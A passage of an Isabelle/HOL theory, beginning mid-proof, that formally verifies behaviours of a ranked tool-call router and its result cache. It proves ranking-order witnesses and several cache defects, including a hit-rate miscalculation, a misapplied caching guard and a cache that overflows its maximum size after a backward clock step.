    by (auto simp: handleMergedToolCall_def split: prod.splits sum.splits)
  have exact: "requests st' = requests st
              @ fst (expectedAttempts env (cachingSystem st) now
                       (connectedRanked st args (sortedServers now st m)))
            \<and> (case r of
                 Inr v \<Rightarrow> snd (expectedAttempts env (cachingSystem st) now
                                  (connectedRanked st args (sortedServers now st m))) = Some v
               | Inl e \<Rightarrow> snd (expectedAttempts env (cachingSystem st) now
                                  (connectedRanked st args (sortedServers now st m))) = None)"
    if d: "distinct (cacheKeys (connectedRanked st args (sortedServers now st m)))"
    using tryServers_attempts [OF t d] r by (auto split: sum.splits)
  show ?thesis
    using ranking_members [of now st m] ranking_sorted [of now st m] ranking_stable [of _ now st m]
      tryServers_requests [OF t] exact
    by blast
qed

text \<open>
  An instance with three different scores, two of them equal in exact arithmetic: the ranking
  is \<open>s3\<close>, \<open>s2\<close>, \<open>s1\<close>; \<open>s3\<close> is called and throws, \<open>s2\<close> is called and returns, \<open>s1\<close>
  is not called.
\<close>

theorem merged_call_attempts_follow_ranking_witness:
  "map_of (mergedTools rankedProviders) ''read'' = Some threeMerged
   \<and> sortedServers 172801000 rankedProviders threeMerged
       = [(''s3'', ''read'', 1 / 2),
          (''s2'', ''read'', 1351079888211149 / 4503599627370496),
          (''s1'', ''read'', 5404319552844595 / 18014398509481984)]
   \<and> distinct (cacheKeys (connectedRanked rankedProviders tmpArgs
                              (sortedServers 172801000 rankedProviders threeMerged)))
   \<and> requests (fst (snd (handleMergedToolCall pickyEnv 172801000 rankedProviders ''read'' tmpArgs)))
       = requests rankedProviders
         @ fst (expectedAttempts pickyEnv (cachingSystem rankedProviders) 172801000
                  (connectedRanked rankedProviders tmpArgs
                     (sortedServers 172801000 rankedProviders threeMerged)))
   \<and> fst (expectedAttempts pickyEnv (cachingSystem rankedProviders) 172801000
             (connectedRanked rankedProviders tmpArgs
                (sortedServers 172801000 rankedProviders threeMerged)))
       = [(''s3'', ''read'', tmpArgs), (''s2'', ''read'', tmpArgs)]
   \<and> fst (handleMergedToolCall pickyEnv 172801000 rankedProviders ''read'' tmpArgs)
       = Inr (textResult ''ok'')"
proof -
  have a: "map_of (mergedTools rankedProviders) ''read'' = Some threeMerged" by code_simp
  have b: "handleMergedToolCall pickyEnv 172801000 rankedProviders ''read'' tmpArgs
           = (fst (handleMergedToolCall pickyEnv 172801000 rankedProviders ''read'' tmpArgs),
              fst (snd (handleMergedToolCall pickyEnv 172801000 rankedProviders ''read'' tmpArgs)),
              snd (snd (handleMergedToolCall pickyEnv 172801000 rankedProviders ''read'' tmpArgs)))"
    by simp
  have c: "sortedServers 172801000 rankedProviders threeMerged
           = [(''s3'', ''read'', 1 / 2),
              (''s2'', ''read'', 1351079888211149 / 4503599627370496),
              (''s1'', ''read'', 5404319552844595 / 18014398509481984)]"
    by code_simp
  have d: "distinct (cacheKeys (connectedRanked rankedProviders tmpArgs
                                  (sortedServers 172801000 rankedProviders threeMerged)))"
    by code_simp
  have e: "fst (expectedAttempts pickyEnv (cachingSystem rankedProviders) 172801000
                  (connectedRanked rankedProviders tmpArgs
                     (sortedServers 172801000 rankedProviders threeMerged)))
           = [(''s3'', ''read'', tmpArgs), (''s2'', ''read'', tmpArgs)]"
    by code_simp
  have f: "fst (handleMergedToolCall pickyEnv 172801000 rankedProviders ''read'' tmpArgs)
           = Inr (textResult ''ok'')"
    by code_simp
  from merged_call_attempts_follow_ranking [OF a b] a c d e f show ?thesis by blast
qed

section \<open>Properties of the result cache\<close>

text \<open>
  C2.  The cache has no per-tool-type request counter.  In \<open>twoTypeCache\<close> one request was
  served for the filesystem entry and one for the database entry; the hit rate computed for
  \<open>filesystem\<close> is the average hit count 1 divided by the global \<open>totalRequests\<close> = 2, and
  \<open>getStats\<close> leaves the filesystem TTL at 60000.
\<close>

theorem tool_type_hit_rate_divides_by_total_requests:
  "totalRequests twoTypeCache = 2
   \<and> map_of (getToolTypeMetrics twoTypeCache) ''filesystem''
       = Some \<lparr>tt_count = 1, tt_avgHitCount = 1, tt_hitRate = 1 / 2\<rparr>
   \<and> getTTLForToolType (snd (cacheGetStats 3000 twoTypeCache)) ''filesystem'' = 60000"
  by code_simp

text \<open>
  C4.  \<open>set\<close> applies \<open>shouldCache\<close> to the cache key and to the result, not to the tool name
  and the arguments.  A result whose text contains \<open>Current\<close> is not stored although neither
  the tool name \<open>forecast\<close> nor the arguments \<open>{"city":"Paris"}\<close> match; a call whose
  arguments contain \<open>timestamp\<close> is stored.
\<close>

theorem cache_set_guard_reads_key_and_result:
  "cache (cachingSystem (fst (snd
      (executeToolCall (answering (textResult ''Current conditions: sunny'')) 1000
         (oneServer ''weather'' ''forecast'') ''weather'' ''forecast''
         (Some (JObj [(''city'', JStr ''Paris'')])))))) = []
   \<and> map fst (cache (cachingSystem (fst (snd
      (executeToolCall (answering (textResult ''3 events'')) 1000
         (oneServer ''cal'' ''list_events'') ''cal'' ''list_events''
         (Some (JObj [(''timestamp'', JNum 5)]))))))) =
     [cacheKeyOf ''cal'' ''list_events'' (Some (JObj [(''timestamp'', JNum 5)]))]"
  by code_simp

subsection \<open>Eviction\<close>

lemma str_includes_subset: "str_includes s pat \<Longrightarrow> set pat \<subseteq> set s"
proof (induction s)
  case Nil
  then show ?case by simp
next
  case (Cons c s)
  from Cons.prems have "prefix pat (c # s) \<or> str_includes s pat" by simp
  then show ?case
  proof
    assume "prefix pat (c # s)"
    then show ?thesis by (rule set_mono_prefix)
  next
    assume "str_includes s pat"
    then have "set pat \<subseteq> set s" by (rule Cons.IH)
    then show ?thesis by auto
  qed
qed

lemma not_includes_char: "c \<in> set pat \<Longrightarrow> c \<notin> set s \<Longrightarrow> \<not> str_includes s pat"
  using str_includes_subset by blast

lemma concat_escape_a: "concat (map escapeChar (replicate i CHR ''a'')) = replicate i CHR ''a''"
  by (induction i) (simp_all add: escapeChar_def)

lemma keyN_eq:
  "keyN i = ''p:echo:{'' @ [CHR 0x22] @ ''q'' @ [CHR 0x22] @ '':'' @ [CHR 0x22]
            @ replicate i CHR ''a'' @ [CHR 0x22] @ ''}''"
  by (simp add: keyN_def cacheKeyOf_def quoteString_def concat_escape_a escapeChar_def)

lemma keyN_inj: "keyN i = keyN j \<Longrightarrow> i = j"
proof -
  assume "keyN i = keyN j"
  then have "length (keyN i) = length (keyN j)" by simp
  then show "i = j" by (simp add: keyN_eq)
qed

lemma textResult_ok_plain:
  "\<not> (truthy (textResult ''ok'') \<and> typeofObject (textResult ''ok'')
       \<and> (let paramStr = toLowerCase (stringify (textResult ''ok''))
           in str_includes paramStr ''timestamp'' \<or> str_includes paramStr ''current''))"
  by code_simp

lemma shouldCache_keyN: "shouldCache (keyN i) (textResult ''ok'')"
proof -
  have r: "\<not> str_includes (keyN i) ''random''"
    by (rule not_includes_char [of "CHR ''r''"]) (auto simp: keyN_eq)
  have u: "\<not> str_includes (keyN i) ''uuid''"
    by (rule not_includes_char [of "CHR ''u''"]) (auto simp: keyN_eq)
  have c: "\<not> str_includes (keyN i) ''current_time''"
    by (rule not_includes_char [of "CHR ''u''"]) (auto simp: keyN_eq)
  have n: "\<not> str_includes (keyN i) ''now''"
    by (rule not_includes_char [of "CHR ''n''"]) (auto simp: keyN_eq)
  show ?thesis
    unfolding shouldCache_def using r u c n textResult_ok_plain by presburger
qed

text \<open>
  The scan starts from \<open>oldestTime = Date.now()\<close> and compares with \<open><\<close>: when no entry was
  last accessed strictly before the current clock reading, nothing is evicted.
\<close>

lemma oldest_none:
  "\<forall>(k, e) \<in> set m. now \<le> lastAccess e \<Longrightarrow> foldl oldestStep (None, now) m = (None, now)"
  by (induction m) auto

lemma evict_nothing:
  "\<forall>(k, e) \<in> set (cache s). now \<le> lastAccess e \<Longrightarrow> evictLeastRecentlyUsed now s = s"
  by (simp add: evictLeastRecentlyUsed_def oldest_none)

lemma mapSet_fresh: "map_of m k = None \<Longrightarrow> mapSet m k v = m @ [(k, v)]"
  by (induction m) (auto split: if_splits)

lemma cacheSet_appends:
  assumes "shouldCache key dat" and "map_of (cache s) key = None"
    and "length (cache s) < maxSize s \<or> (\<forall>(k, e) \<in> set (cache s). now \<le> lastAccess e)"
  shows "cache (cacheSet now s key dat ttl tt)
           = cache s @ [(key, \<lparr>data = dat,
                expiry = of_int now + (case ttl of None \<Rightarrow> getTTLForToolType s tt
                    | Some t \<Rightarrow> (if t \<noteq> 0 then t else getTTLForToolType s tt)),
                hitCount = 0, lastAccess = now, toolType = tt\<rparr>)]"
  using assms by (auto simp: cacheSet_def Let_def evict_nothing mapSet_fresh)

lemma cacheSet_maxSize: "maxSize (cacheSet now s key dat ttl tt) = maxSize s"
  by (simp add: cacheSet_def Let_def evictLeastRecentlyUsed_def split: option.split)

lemma fillCache_maxSize: "maxSize (fillCache n) = 1000"
  by (induction n) (simp_all add: cacheSet_maxSize newCachingSystem_def)

lemma fillCache_keys:
  "n \<le> 1000 \<Longrightarrow>
     map fst (cache (fillCache n)) = map keyN [0..<n]
     \<and> (\<forall>(k, e) \<in> set (cache (fillCache n)). 5000 \<le> lastAccess e)"
proof (induction n)
  case 0
  show ?case by (simp add: newCachingSystem_def)
next
  case (Suc n)
  then have IH: "map fst (cache (fillCache n)) = map keyN [0..<n]"
      and old: "\<forall>(k, e) \<in> set (cache (fillCache n)). 5000 \<le> lastAccess e"
    by simp_all
  have fresh: "map_of (cache (fillCache n)) (keyN n) = None"
  proof -
    have "keyN n \<notin> set (map keyN [0..<n])" using keyN_inj by fastforce
    moreover have "fst ` set (cache (fillCache n)) = set (map keyN [0..<n])"
      using IH by (metis set_map)
    ultimately show ?thesis by (simp add: map_of_eq_None_iff)
  qed
  have "length (cache (fillCache n)) = n" using IH by (metis length_map length_upt diff_zero)
  with Suc.prems have room: "length (cache (fillCache n)) < maxSize (fillCache n)
      \<or> (\<forall>(k, e) \<in> set (cache (fillCache n)). 5000 + int n \<le> lastAccess e)"
    by (simp add: fillCache_maxSize)
  show ?case
    using IH old by (simp add: cacheSet_appends [OF shouldCache_keyN fresh room])
qed

text \<open>
  C6.  A thousand results are stored at the clock readings 5000 to 5999, which fills the
  cache.  The wall clock is then set back, and the next \<open>set\<close> happens at the reading 4000:
  the eviction scan finds no entry last accessed before the current time, removes nothing,
  and the cache holds 1001 entries, one more than \<open>maxSize\<close> = 1000.
\<close>

theorem cache_exceeds_maxSize_after_clock_step:
  "length (cache (cacheSet 4000 (fillCache 1000) (keyN 1000) (textResult ''ok'') None ''default''))
     = 1001
   \<and> maxSize (cacheSet 4000 (fillCache 1000) (keyN 1000) (textResult ''ok'') None ''default'')
     = 1000"
proof -
  have k: "map fst (cache (fillCache 1000)) = map keyN [0..<1000]"
    and old: "\<forall>(k, e) \<in> set (cache (fillCache 1000)). 5000 \<le> lastAccess e"
    using fillCache_keys [of 1000] by simp_all
  have fresh: "map_of (cache (fillCache 1000)) (keyN 1000) = None"
  proof -
    have "keyN 1000 \<notin> set (map keyN [0..<1000])" using keyN_inj by fastforce
    moreover have "fst ` set (cache (fillCache 1000)) = set (map keyN [0..<1000])"
      using k by (metis set_map)
    ultimately show ?thesis by (simp add: map_of_eq_None_iff)
  qed
  have late: "length (cache (fillCache 1000)) < maxSize (fillCache 1000)
      \<or> (\<forall>(k, e) \<in> set (cache (fillCache 1000)). 4000 \<le> lastAccess e)"
    using old by fastforce
  have "length (cache (fillCache 1000)) = 1000"
    using k by (metis length_map length_upt diff_zero)
  then show ?thesis
    by (simp add: cacheSet_appends [OF shouldCache_keyN fresh late] cacheSet_maxSize
          fillCache_maxSize)
qed

end
